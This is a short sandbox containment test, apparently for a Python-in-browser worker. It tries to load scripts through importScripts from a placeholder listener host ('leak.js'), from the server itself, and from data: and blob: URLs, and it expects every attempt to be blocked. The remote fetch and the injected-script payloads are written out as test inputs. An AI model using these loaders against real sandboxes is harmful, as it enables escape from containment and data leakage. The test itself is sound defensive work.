# outcome: ok
# with: door
# prints: held: importScripts http: JsException
# prints: held: importScripts the server: JsException
# prints: held: importScripts data: JsException
# prints: held: importScripts blob: JsException
blob = js.URL.createObjectURL(js.Blob.new(to_js(["self.escaped = 1"]), obj(type="text/javascript")))
await door("importScripts http", lambda: js.importScripts("http://{listener}/leak.js"))
await door("importScripts the server", lambda: js.importScripts("http://{server}/page/main.js?leak"))
await door("importScripts data", lambda: js.importScripts("data:text/javascript,self.escaped=1"))
await door("importScripts blob", lambda: js.importScripts(blob))
print("held all" if not hasattr(js, "escaped") else "ESCAPED: a script ran")
